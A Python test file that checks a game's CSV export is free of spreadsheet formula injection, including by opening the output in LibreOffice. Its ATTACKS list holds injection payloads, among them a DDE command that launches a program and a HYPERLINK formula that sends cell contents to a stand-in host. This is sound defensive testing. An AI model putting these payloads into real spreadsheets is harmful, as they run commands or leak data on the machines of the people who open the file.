"""A table that a spreadsheet can open: numbers are numbers, and nothing in it ever runs."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from io import StringIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from game.core.partner import Style
from game.export.as_csv import HEADER, csv_of, harmless
from tests.export.conftest import answered, kept, typed, wandered

ATTACKS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1;1)",
    '=HYPERLINK("http://example.invalid/?"&A1;"more")',
    "=cmd|' /C calc'!A0",
    "quiet; =1+1",
    'quiet";"=1+1',
    "quiet | =1+1",
)
TABLE, TEXT, OFFICE = (
    f"{{urn:oasis:names:tc:opendocument:xmlns:{space}:1.0}}" for space in ("table", "text", "office")
)
SOFFICE = shutil.which("soffice")


def rows(play):
    return list(csv.DictReader(StringIO(csv_of(play).removeprefix("\ufeff"))))


def test_there_is_one_row_a_turn_under_one_header(over):
    told = rows(over)

    assert [row["turn"] for row in told] == ["1", "2"]
    assert [row["response"] for row in told] == ["excuse", "halves"]
    assert tuple(told[0]) == HEADER
    assert len(set(HEADER)) == len(HEADER)


def test_a_row_tells_acts_features_feelings_stance_evidence_and_because(over):
    first = rows(over)[0]

    assert first["acts"] == "defend"
    assert float(first["feature_hostility"]) == 0.35
    assert float(first["rejection_after"]) > float(first["rejection_before"]) == 0.46
    assert (first["stance_before"], first["stance_after"]) != ("", "")
    assert float(first["evidence_accountability"]) == 0.0
    assert "felt.rejection" in first["because_codes"].split(" | ")
    assert len(first["because"].split(" | ")) == len(first["because_codes"].split(" | "))


def test_what_they_said_before_and_after_an_answer_stands_beside_it(over):
    first, second = rows(over)

    assert first["partner_before"].startswith("Ten past.")
    assert first["partner_after"].endswith(second["partner_before"])


@pytest.mark.parametrize("style", Style)
def test_numbers_are_plain_numbers_in_every_evening(evening, style):
    for row in rows(wandered(evening, style, 2)):
        for name in HEADER:
            if name.startswith(("feature_", "evidence_")) and row[name]:
                assert row[name] == repr(float(row[name]))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_begins_like_a_formula_whatever_the_writer_typed(key, attack):
    for row in rows(kept(answered(typed(key, attack), "excuse", "halves"))):
        for name, cell in row.items():
            assert not cell.lstrip().startswith(tuple("=+@＝＋－＠")), name
            assert not cell.startswith("-") or float(cell) <= 0
            assert "; =" not in cell


@given(st.text())
def test_harmless_text_keeps_its_words(text):
    told = harmless(text)

    assert told.replace("'", "").split() == text.replace("'", "").replace("\x85", " ").split()
    assert not any(sign in told for sign in "\t\r\n")
    assert not told.strip().startswith(tuple("=+-@＝＋－＠"))


def test_a_word_that_looks_like_a_number_stays_a_word():
    assert harmless("12e45") == "'12e45"
    assert harmless("0012") == "'0012"
    assert harmless("12 past") == "12 past"


def test_a_table_begins_with_the_mark_that_tells_excel_its_encoding(over):
    assert csv_of(over).encode().startswith(b"\xef\xbb\xbfplay,")
    assert csv_of(over).count("\r\n") == csv_of(over).count("\n") == 3


@pytest.mark.skipif(not SOFFICE, reason="LibreOffice is not on this machine")
@pytest.mark.parametrize("separators", ["44", "44/59"], ids=["commas", "commas and semicolons"])
def test_libreoffice_opens_it_without_a_formula(key, tmp_path, separators):
    play = kept(answered(typed(key, " | ".join(ATTACKS)), "excuse", "halves"))
    whole = csv_of(play) + "".join(
        csv_of(kept(answered(typed(key, attack), "excuse", "halves"))).partition("\r\n")[2]
        for attack in ATTACKS
    )
    opened = in_libreoffice(whole, tmp_path, separators)

    assert not formulas(opened)
    assert "float" in {cell.get(f"{OFFICE}value-type") for cell in opened.iter(f"{TABLE}table-cell")}


@pytest.mark.skipif(not SOFFICE, reason="LibreOffice is not on this machine")
def test_libreoffice_would_run_a_formula_that_was_left_in(tmp_path):
    assert formulas(in_libreoffice("a,b\r\n=1+1,2\r\n", tmp_path, "44")) == ["of:=1+1"]


def in_libreoffice(table: str, folder: Path, separators: str) -> ET.Element:
    """Return the sheet as LibreOffice has it after opening the file."""
    (folder / "table.csv").write_bytes(table.encode())
    subprocess.run(
        [
            str(SOFFICE), f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless",
            "--convert-to", "fods", f"--infilter=CSV:{separators},34,76,1", "--outdir", str(folder),
            str(folder / "table.csv"),
        ],
        check=True, capture_output=True, timeout=120, env={**os.environ, "HOME": str(folder)},
    )  # fmt: skip
    return ET.parse(folder / "table.fods").getroot()  # noqa: S314 - our own file


def formulas(sheet: ET.Element) -> list[str]:
    """Return every formula in it."""
    return [
        found
        for cell in sheet.iter(f"{TABLE}table-cell")
        if (found := cell.get(f"{TABLE}formula")) is not None
    ]
